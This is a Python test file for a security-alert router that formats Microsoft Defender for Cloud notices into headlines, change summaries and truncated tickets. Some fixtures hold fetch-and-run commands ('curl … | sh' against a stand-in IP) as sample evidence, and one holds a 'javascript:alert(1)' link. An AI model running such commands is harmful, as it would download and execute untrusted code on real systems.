"""What people read: in a responder's order, with what is new against what they were told, and cut where they can do without."""

import json
from copy import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from router.destinations.wording import headlines
from router.destinations.wording.changes import changes_between
from router.destinations.wording.facts import EVIDENCE, Fact, length_words, time_words, title_of
from router.destinations.wording.fitting import MARK
from router.destinations.wording.notice_text import LINK_LIMIT
from router.destinations.wording.plain_text import note_of, text_of
from router.domain.decisions import Change
from router.domain.deliveries import Background, Earlier
from router.domain.evidence import Evidence
from router.domain.notices import Notice, Release, Tactic
from router.domain.owners import Owner
from router.domain.posture import Image, Package, Risk
from router.domain.severity import Severity
from router.domain.signals import Link
from router.store.codec import decode, encode
from tests.destinations.builders import NOW, RESOURCE, a_briefing, a_group, a_huge_notice, a_notice, a_software_update
from tests.examples import some_of

WORDING = Path(headlines.__file__).parent
LIMIT = 4_000
GROUP = RESOURCE.partition("/providers/")[0]


def test_what_happened_before_is_counted_as_far_as_it_is_known() -> None:
    """With its last time, at the beginning."""
    earlier = Background(earlier=Earlier(count=3, last=NOW - timedelta(days=2), is_whole=False))
    text = text_of(a_briefing(background=earlier), LIMIT)
    assert "The same happened here at least 3 times before, last 2026-11-22 12:00 UTC." in text.partition("WHAT")[0]


def test_why_you_says_nothing_where_nothing_is_known() -> None:
    """Neither that no owner is known, nor that the policy and no route sends it; what is known of the two is told."""
    assert "WHY YOU" not in text_of(a_briefing(a_notice(owner=None, routes=())), LIMIT)
    assert "WHY YOU\nSent by: route page-high\n" in text_of(a_briefing(a_notice(owner=None)), LIMIT)
    assert "WHY YOU\nOwner: payments-platform / Payments\n\n" in text_of(a_briefing(a_notice(routes=())), LIMIT)


def test_a_headline_says_once_that_it_is_about_a_sample() -> None:
    """By our mark, whether or not Defender's stands in the title; a title that only looks like a sample's stays whole."""
    for title in ("[SAMPLE ALERT] Malware found", "[SAMPLE ALERT]Malware found", "Malware found"):
        assert headlines.headline(a_notice(title=title, sample=True), 160) == "[Sample] High: Malware found - vm-pay-01"
        assert headlines.headline(a_notice(title=title), 160) == f"High: {title} - vm-pay-01"


def test_a_severity_that_the_message_does_not_give_says_what_it_gives() -> None:
    """What is not known is so, and of a finding what says the severity instead."""
    for notice, words in (
        (a_notice(severity=None, severity_written="Severe"), "Unknown (Severe)"),
        (a_notice(severity=None, severity_written=None), "Unknown"),
        (a_notice(severity_written="Severe"), "High"),
        (a_software_update(severity_written="Odd  one"), "High (Odd one given, by its CVEs)"),
        (a_software_update(severity="Medium", severity_written=None), "Medium (none given)"),
    ):
        assert headlines.severity_of(notice) == words


def test_what_the_location_of_a_cluster_says_is_no_evidence_beside_it() -> None:
    """So a pod is one line. What else is called so stays, and so do other pods, and rows have all of it."""
    evidence = Evidence(
        clusters=("aks-web",), namespaces=("shop",), pods=("pod-1",), containers=("web",), services=("shop",)
    )
    cluster = f"{GROUP}/providers/Microsoft.ContainerService/managedClusters/aks-web"
    notice = a_notice(resource=cluster, cluster="aks-web", compromised_entity=None, evidence=evidence)
    assert a_briefing(notice).where[0].values == ("aks-web/shop/pod-1",)
    assert a_briefing(notice).evidence == (Fact("Containers", ("web",)), Fact("Services", ("shop",)))
    assert [fact.name for fact in a_briefing(notice).located] == ["Pods", "Namespaces", "Clusters"]
    two = replace(notice, evidence=replace(evidence, pods=("pod-1", "pod-2")))
    assert a_briefing(two).evidence[0] == Fact("Pods", ("pod-1", "pod-2"))
    elsewhere = replace(notice, resource=f"{GROUP}/providers/Microsoft.Web/sites/shop", cluster=None)
    assert Fact("Namespaces", ("shop",)) in a_briefing(elsewhere).evidence


def test_the_title_of_a_headline_gives_way() -> None:
    """Severity, location and environment stay whole, whatever the limit of a kind, and the title has all that is left.

    A location has half of a headline at most: a longer one is cut, and the environment behind it is not.
    """
    notice = a_notice(title="A title of many words. " * 100, environment="production")
    for limit in (130, 160, 255, 1_024):
        told = headlines.headline(notice, limit)
        assert len(told) == limit
        assert told.startswith("High: A title of many words. ")
        assert told.endswith(f"{MARK} - vm-pay-01 (production)")
    name = "vm-" + "x" * 200
    long, whole = (
        headlines.headline(
            a_notice(resource=RESOURCE.replace("vm-pay-01", name), environment="production", **title), 160
        )
        for name, title in ((name, {}), (name[:64], {"title": "t" * 500}))
    )
    assert long.startswith("High: Suspicious sign-in to a virtual machine - vm-xxx")
    assert long.endswith(f"x{MARK} (production)")
    assert whole.endswith(f"{MARK} - {name[:64]} (production)")


@given(
    texts=st.tuples(*[st.text(st.sampled_from("ab \n"), max_size=300)] * 4),
    limit=st.integers(0, 300),
    grouped=st.booleans(),
)
def test_a_headline_keeps_to_its_limit(texts: tuple[str, ...], limit: int, grouped: bool) -> None:
    """On one line, whatever an alert says."""
    title, environment, written, name = texts
    notice = a_notice(
        title=title, environment=environment, severity=None, severity_written=written, resource=name, compromised_entity=name,
        group=a_group() if grouped else None,
    )  # fmt: skip
    told = headlines.headline(notice, limit)
    assert len(told) <= max(limit, len(MARK))
    assert "\n" not in told
    assert told.startswith("Unknown") or limit < 100


CHANGED: list[tuple[dict[str, Any], str]] = [
    ({"severity": "Medium"}, "Severity: Medium to High."),
    ({"risk": Risk(level=Severity.LOW, is_contextual=True)}, "Risk is no longer said; it was Low."),
    ({"status": "Active"}, "Status: Active to New."),
    ({"title": "Before"}, "Title: Before to Suspicious sign-in to a virtual machine."),
    ({"description": "Before."}, "The description changed."),
    ({"package": Package(name="a", installed=("1",), fixed="2")}, "Package is no longer said; it was a 1 -> 2."),
    ({"image": Image(digest="sha256:1")}, "Image is no longer said; it was sha256:1."),
    ({"cause": "Off"}, "Cause is no longer said; it was Off."),
    ({"measure": "1 of 2"}, "Measure is no longer said; it was 1 of 2."),
    ({"owner": Owner(group="before")}, "Owner: before to payments-platform / Payments."),
    ({"owner": None}, "Owner: payments-platform / Payments."),
    ({"cves": ("CVE-1",)}, "No longer in CVEs: CVE-1."),
    ({"tactics": (Tactic("TA0001", "Initial Access"),)}, "New in Tactics: Credential Access."),
    ({"techniques": ()}, "New in Techniques: T1110."),
    ({"unlisted": (), "extended": {}}, "attempts: 42."),
    ({"unlisted": (), "extended": {"attempts": "41"}}, "attempts: 41 to 42."),
]


def test_an_update_says_what_changed() -> None:
    """Against what the destination was last told, in a sentence of its own; what stayed is not said again."""
    notice = a_notice(unlisted=("attempts",))
    assert changes_between(notice, notice) == ()
    for before, sentence in CHANGED:
        last = replace(notice, **before)
        assert sentence in changes_between(last, notice)
        text = note_of(a_briefing(notice, Change.UPDATED, Background(last=last)), LIMIT)
        assert f"- {sentence}" in text
        assert "WHAT TO DO" not in text


@given(
    st.sampled_from(EVIDENCE),
    st.lists(st.sampled_from("abcdef"), unique=True),
    st.lists(st.sampled_from("abcdef"), unique=True),
)
def test_what_came_to_a_list_and_what_went_is_said(name: str, before: list[str], after: list[str]) -> None:
    """Of every list of evidence, each value once, and nothing of what stayed."""
    last, notice = (a_notice(evidence=Evidence(**{name: tuple(one)})) for one in (before, after))
    said = changes_between(last, notice)
    came, went = [one for one in after if one not in before], [one for one in before if one not in after]
    assert said == (
        *([f"New in {title_of(name)}: {', '.join(came)}."] if came else []),
        *([f"No longer in {title_of(name)}: {', '.join(went)}."] if went else []),
    )


def test_an_update_of_a_group_counts_what_joined_and_what_is_over() -> None:
    """Against the group as it was; of the first update the last notice was that of its only member."""
    last, notice = a_notice(group=a_group(total=2, standing=2, named=a_group().named[:1])), a_notice(group=a_group())
    assert changes_between(last, notice) == (
        "1 more signal: 3 in all.",
        "1 is over; 2 still stand.",
        "New: Unknown Sign-in from a *new* <place>.",
    )
    assert changes_between(a_notice(), a_notice(group=a_group(standing=3)))[0] == "2 more signals: 3 in all."


def test_another_member_of_a_group_takes_nothing_away_from_the_first() -> None:
    """A group's update is in the words of its latest member: what only the first one has still stands.

    Two findings in one ticket have two packages and two owners; neither became the other.
    """
    first = a_notice(evidence=Evidence(accounts=("alice",), ips=("203.0.113.7",)))
    evidence = Evidence(accounts=("bob",), ips=("203.0.113.9",))
    second = a_notice(id="another", evidence=evidence, group=a_group(total=2, standing=2))
    said = "\n".join(changes_between(first, second))
    assert "1 more signal: 2 in all." in said
    assert "No longer in" not in said
    other: dict[str, Any] = {"id": "another", "package": None, "cves": ("CVE-2026-2",), "owner": Owner(group="b")}
    said = "\n".join(changes_between(a_software_update(), a_software_update(**other, group=a_group())))
    assert not [word for word in ("Package", "Owner", "No longer in CVEs") if word in said]


def test_what_an_older_program_did_not_know_is_no_change() -> None:
    """2824f6a kept no list of commands, locations or attackers: of 194 messages of the samples 73 would say `New in ...`."""
    whole = a_notice(evidence=Evidence(commands=("curl x | sh",), attackers=("203.0.113.7",), ips=("203.0.113.7",)))
    stored = json.loads(encode(whole))
    del stored["is_whole"]
    for name in ("commands", "attackers"):
        del stored["evidence"][name]
    last = decode(type(whole), json.dumps(stored).encode())
    assert changes_between(last, whole) == ()


def test_a_resolution_says_who_says_so_and_how_long_it_stood() -> None:
    """As far as that is known; a clock that was wrong makes no length, which is said in its two largest units."""
    since = " It stood here for 3 h 12 min, since 2026-11-24 08:48 UTC."
    for opened, words in (
        (NOW - timedelta(hours=3, minutes=12, seconds=5), since),
        (NOW + timedelta(minutes=5), ""),
        (None, ""),
    ):
        text = note_of(a_briefing(change=Change.RESOLVED, background=Background(opened=opened)), LIMIT)
        assert text == f"Microsoft Defender for Cloud reports that this is over.{words}"
    lengths = {
        timedelta(seconds=59): "less than a minute", timedelta(minutes=1): "1 min", timedelta(hours=1, seconds=59): "1 h",
        timedelta(days=1, minutes=5): "1 day", timedelta(days=2, hours=3, minutes=4): "2 days 3 h",
    }  # fmt: skip
    assert {length: length_words(length) for length in lengths} == lengths


RELEASED = {
    Release(kind="rule", name="r", author="ana@contoso.example", since="2026-11-20T08:00:00Z", messages=7): (
        "The rule r, by ana@contoso.example, held 7 messages since 2026-11-20 08:00 UTC; it holds this no longer."
    ),
    Release(kind="rule", name="r", ended="2026-11-24T12:00:00Z"): "The rule r held it; it ended 2026-11-24 12:00 UTC.",
    Release(kind="silence", name="s-1", messages=1): "The silence s-1 held 1 message; it holds this no longer.",
}


def test_a_release_says_what_had_held_it() -> None:
    """Which, whose, since when, how many messages; what is not known is left out."""
    for release, words in RELEASED.items():
        assert words in a_briefing(a_notice(release=release)).news


def test_what_is_no_time_stays_as_it_is() -> None:
    """A message may hold anything."""
    assert (time_words("soon"), time_words(None)) == ("soon", None)
    assert time_words("2026-11-24T13:00:00+01:00") == "2026-11-24 12:00 UTC"


@settings(max_examples=some_of(60))
@given(
    st.integers(200, 6_000),
    st.integers(0, 5_000),
    st.integers(0, 5_000),
    st.lists(st.integers(0, 2_000), max_size=12),
    st.integers(0, 30),
)
def test_a_text_fits_and_says_where_it_was_cut(
    limit: int, prose: int, steps: int, values: list[int], others: int
) -> None:
    """Whatever is long; what fits is whole."""
    notice = a_notice(
        description="d" * prose,
        remediation=("r" * steps,) if steps else (),
        evidence=Evidence(processes=tuple("p" * one for one in values if one)),
        unlisted=tuple(f"n{number}" for number in range(others)),
        extended={f"n{number}": "x" * number for number in range(1, others)} | {"n0": "x"},
    )
    whole = text_of(a_briefing(notice), 10**6)
    text = text_of(a_briefing(notice), limit)
    assert len(text) <= limit
    assert text == whole if len(whole) <= limit else "… [" in text
    assert text_of(a_briefing(notice), len(whole)) == whole


def test_of_more_lines_than_there_is_room_for_as_many_stand_as_fit() -> None:
    """At every limit, with how many more there are, and what stands behind them is whole."""
    notice = a_notice(evidence=Evidence(processes=tuple(f"{number:06}, p" for number in range(2_000))))
    for limit in range(3_000, 3_020):
        text = text_of(a_briefing(notice), limit)
        assert limit - len("- 000000, p\n") < len(text) <= limit
        assert text.endswith(f"Key: {notice.key}, turn 1")


def test_evidence_is_not_starved_by_prose() -> None:
    """A ticket of 4,000 characters keeps the command that was run, however long the rest is, and every heading."""
    members = a_group(named=tuple(replace(a_group().named[0], title="t" * 300) for _ in range(20)))
    longer: tuple[dict[str, Any], ...] = (
        {"description": "words " * 5_000}, {"remediation": ("step " * 5_000,)}, {"group": members},
    )  # fmt: skip
    command = "curl -fsSL http://198.51.100.200/k.tgz | sh"
    for long in longer:
        text = text_of(a_briefing(a_notice(evidence=Evidence(processes=(command,)), **long)), LIMIT)
        assert command in text
        assert "LINKS\nOpen in the Azure portal: https://portal.azure.com/#view/alerts/1" in text
    text = text_of(a_briefing(a_huge_notice()), LIMIT)
    assert len(text) <= LIMIT
    assert all(f"\n{heading}\n" in text for heading in ("WHAT", "WHERE", "WHEN", "WHY YOU", "EVIDENCE"))


def test_links_are_whole_or_not_there() -> None:
    """One that is too long, of another scheme, or with what could end it early leads nowhere, whosever it is."""
    site = "https://contoso.example/"
    sound = (f"{site}ok", f"{site}#a?b=1&c=2", site + "x" * (LINK_LIMIT - len(site)))
    wrong = (
        "http://contoso.example/",
        f"{site}a b",
        f"{site}a|b",
        f"{site}a>b",
        f"{sound[-1]}x",
        "javascript:alert(1)",
    )
    for own, named in ((None, (*wrong, *sound)), *((url, sound) for url in wrong)):
        notice = a_notice(link=own, links=tuple(Link(text="t", url=url) for url in named))
        assert [one.url for one in a_briefing(notice).links] == list(sound)


def test_every_field_of_a_notice_has_its_reader() -> None:
    """A field that is added is either told, or listed here with what it is for."""
    untold = {
        "key", "turn", "stream", "severity_written", "attack_version", "rulebook", "correlation", "snapshot", "status_only",
        "cloud", "resource_type", "native_name", "routes_to", "paged",
        "is_whole", "unfilled_title", "namespaces", "connector", "tags",
    }  # fmt: skip
    source = "".join(path.read_text() for path in WORDING.glob("*.py"))
    missing = [name for name in Notice.__struct_fields__ if f"notice.{name}" not in source and name not in untold]
    assert missing == []
